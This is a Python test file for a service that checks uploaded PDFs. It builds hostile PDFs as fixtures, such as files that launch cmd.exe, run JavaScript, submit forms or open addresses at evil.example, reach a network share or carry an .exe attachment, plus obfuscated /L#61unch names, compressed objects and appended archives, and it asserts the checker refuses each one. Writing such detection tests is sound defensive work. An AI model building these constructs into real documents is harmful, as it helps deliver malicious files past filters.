"""What may be kept as a paper: a PDF to be read, and nothing that acts, carries or is something else."""

import base64
import io
import zipfile

import pyhanko.pdf_utils.generic as pdf
import pyhanko.pdf_utils.writer as pyhanko
import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.annotations import Link
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NullObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

from services.agreements.papers_check import examine

pytestmark = pytest.mark.feature("E16", "E10")


def examined(data):
    return examine(base64.b64encode(data).decode())


def given(value):
    """A PDF value: « /x » is a name, a dict a dictionary, the rest as pypdf writes it."""
    if isinstance(value, dict):
        return DictionaryObject({NameObject(key): given(one) for key, one in value.items()})
    if isinstance(value, list):
        return ArrayObject([given(one) for one in value])
    if isinstance(value, str):
        return NameObject(value) if value.startswith("/") else TextStringObject(value)
    return NumberObject(value) if isinstance(value, int) else value


def paper(change=lambda _writer, _page: None):
    writer = PdfWriter()
    change(writer, writer.add_blank_page(200, 200))
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def on_open(action, refer=True):
    def change(writer, _page):
        value = given(action)
        writer.root_object[NameObject("/OpenAction")] = writer._add_object(value) if refer else value

    return paper(change)


def annotated(annotation):
    def change(writer, page):
        one = given({"/Type": "/Annot", "/Rect": [1, 1, 9, 9], **annotation})
        page[NameObject("/Annots")] = ArrayObject([writer._add_object(one)])

    return paper(change)


def attached():
    """Without /Type /EmbeddedFile, which is not needed: a page's pin, that readers open with a double click."""

    def change(writer, page):
        stream = StreamObject()
        stream.set_data(b"MZ a program")
        file = given({"/Type": "/Filespec", "/F": "facture.exe", "/EF": {"/F": writer._add_object(stream)}})
        pin = given({"/Type": "/Annot", "/Subtype": "/FileAttachment", "/Rect": [1, 1, 9, 9]})
        pin[NameObject("/FS")] = writer._add_object(file)
        page[NameObject("/Annots")] = ArrayObject([writer._add_object(pin)])

    return paper(change)


def by_hand(*parts):
    """A PDF of these objects, numbered from 1; « 5 1 » before a part gives its number and its generation."""
    data, lines = b"%PDF-1.7\n", []
    for n, part in enumerate(parts, 1):
        generation, body = part if isinstance(part, tuple) else (0, part)
        lines.append(b"%010d %05d n \n" % (len(data), generation))
        data += b"%d %d obj\n%s\nendobj\n" % (n, generation, body)
    end = b"trailer<</Root 1 0 R/Size %d>>\nstartxref\n%d\n%%%%EOF\n" % (len(parts) + 1, len(data))
    return data + b"xref\n0 %d\n0000000000 65535 f \n" % (len(parts) + 1) + b"".join(lines) + end


PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"


def archive():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("a.txt", "x")
    return out.getvalue()


def compressed(action, uri=b""):
    """A link whose objects are compressed in a stream, as modern tools write them."""
    writer = pyhanko.PdfFileWriter(stream_xrefs=True)
    stream = writer.prepare_object_stream(compress=True)
    name, array, number = pdf.NameObject, pdf.ArrayObject, pdf.NumberObject
    act = pdf.DictionaryObject({name("/S"): name(action), name("/URI"): pdf.ByteStringObject(uri)})
    link = pdf.DictionaryObject(
        {
            name("/Type"): name("/Annot"),
            name("/Subtype"): name("/Link"),
            name("/Rect"): array([number(n) for n in (1, 1, 9, 9)]),
            name("/A"): writer.add_object(act, obj_stream=stream),
        }
    )
    page = pyhanko.PageObject(contents=writer.add_object(pdf.StreamObject(stream_data=b"")), media_box=(0, 0, 99, 99))
    page[name("/Annots")] = array([writer.add_object(link, obj_stream=stream)])
    writer.insert_page(page)
    out = io.BytesIO()
    writer.write(out)
    assert action.encode() not in out.getvalue()
    return out.getvalue()


PROGRAM = {"/S": "/Launch", "/F": "cmd.exe"}
REFUSED = {
    "an attachment": attached,
    "an attachment that a table names": lambda: paper(lambda writer, _page: writer.add_attachment("a.exe", b"MZ")),
    "opens an address": lambda: on_open({"/S": "/URI", "/URI": "https://evil.example/"}),
    "opens an address, written in place": lambda: on_open({"/S": "/URI", "/URI": "https://evil.example/"}, refer=False),
    "sends a form": lambda: on_open({"/S": "/SubmitForm", "/F": "https://evil.example/"}),
    "opens another file": lambda: on_open({"/S": "/GoToR", "/F": "\\\\evil\\share\\x.pdf", "/D": [0]}),
    "opens a file within": lambda: on_open({"/S": "/GoToE", "/T": {"/R": "/C", "/N": "x.pdf"}}),
    "imports data": lambda: on_open({"/S": "/ImportData", "/F": "\\\\evil\\x.fdf"}),
    "a script": lambda: on_open({"/S": "/JavaScript", "/JS": "app.alert(1)"}),
    "a program": lambda: on_open(PROGRAM),
    "a page, then an address": lambda: on_open(
        {"/S": "/GoTo", "/D": [0], "/Next": {"/S": "/URI", "/URI": "https://evil.example/"}}
    ),
    "a page that opens an address when shown": lambda: paper(
        lambda _writer, page: page.update(given({"/AA": {"/O": {"/S": "/URI", "/URI": "https://evil.example/"}}}))
    ),
    "a link to another file": lambda: annotated({"/Subtype": "/Link", "/A": {"/S": "/GoToR", "/F": "\\\\evil\\x"}}),
    "a link that starts a program": lambda: annotated({"/Subtype": "/Link", "/A": PROGRAM}),
    "a name written otherwise": lambda: by_hand(
        b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/L#61unch/F(cmd.exe)>>>>", PAGES, PAGE
    ),
    "a name that stands alone": lambda: by_hand(
        b"<</Type/Catalog/Pages 2 0 R>>",
        PAGES,
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Annots[4 0 R]>>",
        b"<</Type/Annot/Subtype/Link/Rect[1 1 9 9]/A<</S 5 0 R/F(cmd.exe)>>>>",
        b"/L#61unch",
    ),
    "an object of another generation": lambda: by_hand(
        b"<</Type/Catalog/Pages 2 0 R>>",
        PAGES,
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Annots[4 7 R]>>",
        (7, b"<</Type/Annot/Subtype/Link/Rect[1 1 9 9]/A<</S/L#61unch/F(cmd.exe)>>>>"),
    ),
    "compressed objects": lambda: compressed("/Launch"),
    "where no table leads": lambda: by_hand(
        b"<</Type/Catalog/Pages 2 0 R>>", PAGES, PAGE + b"\nendobj\n9 0 obj\n<</S /Launch/F(cmd.exe)>>"
    ),
    "an archive after its end": lambda: paper() + archive(),
    "an archive within": lambda: by_hand(
        b"<</Type/Catalog/Pages 2 0 R>>", PAGES, PAGE, b"<</Length 999>>stream\n" + archive() + b"\nendstream"
    ),
    "a page of the web after its end": lambda: paper() + b"<script>alert(1)</script>",
}
ORDINARY = {
    "a blank page": paper,
    "opens on its first page, as LibreOffice writes it": lambda: on_open([0, "/XYZ", NullObject(), NullObject(), 0]),
    "opens on a page, as Acrobat writes it": lambda: on_open({"/S": "/GoTo", "/D": [0, "/Fit"]}),
    "opens on nothing": lambda: on_open(NullObject(), refer=False),
    "links to addresses": lambda: paper(
        lambda writer, _page: writer.add_annotation(0, Link(rect=(1, 1, 9, 9), url="https://univ.example/Launch"))
    ),
    "bookmarks": lambda: paper(lambda writer, _page: writer.add_outline_item(title="Un", page_number=0)),
    "who wrote it, and when": lambda: paper(lambda writer, _page: writer.add_metadata({"/Author": "JavaScript, EF"})),
    "an empty AA": lambda: paper(lambda _writer, page: page.update(given({"/AA": {}}))),
    "a page that goes to itself": lambda: paper(
        lambda _writer, page: page.update(given({"/AA": {"/O": {"/S": "/GoTo", "/D": [0, "/Fit"]}}}))
    ),
    "a form to fill in": lambda: annotated({"/Subtype": "/Widget", "/FT": "/Tx", "/T": "nom", "/V": "Mina"}),
    "padding after its end": lambda: paper() + b"\r\n\0\0\0 \x1a",
    "compressed objects": lambda: compressed("/URI", b"https://univ.example/"),
    "objects of another generation": lambda: by_hand(
        b"<</Type/Catalog/Pages 2 0 R>>", PAGES, PAGE, (7, b"<</Type/ExtGState/CA 1>>")
    ),
}


@pytest.mark.parametrize("name", REFUSED)
def test_what_acts_carries_or_is_something_else_is_refused(name):
    assert examined(REFUSED[name]()) == "unsafe"


@pytest.mark.parametrize("name", ORDINARY)
def test_an_ordinary_pdf_is_kept(name):
    data = ORDINARY[name]()
    assert PdfReader(io.BytesIO(data)).pages
    assert examined(data) == ""


def test_a_signed_paper_is_kept_and_one_of_hundreds_of_signature_fields_is_not():
    def signed(how_many):
        fields = [b"<</FT/Sig/T(s%d)>>" % n for n in range(how_many)]
        form = b" ".join(b"%d 0 R" % (n + 4) for n in range(how_many))
        return by_hand(b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[%s]>>>>" % form, PAGES, PAGE, *fields)

    assert examined(signed(8)) == ""
    assert examined(signed(200)) == "too_many_signatures"


def test_what_is_no_pdf_is_told_so():
    for data in (b"", b"GIF89a", b"<script>alert(1)</script>%PDF-1.4", b"%PDF-1.7 nothing"):
        assert examined(data) == "not_a_pdf"


def test_a_sound_pdf_of_too_many_pages_is_told_so():
    def pages(number):
        writer, out = PdfWriter(), io.BytesIO()
        for _page in range(number):
            writer.add_blank_page(width=595, height=842)
        writer.write(out)
        return out.getvalue()

    assert (examined(pages(200)), examined(pages(201))) == ("", "too_many_pages")
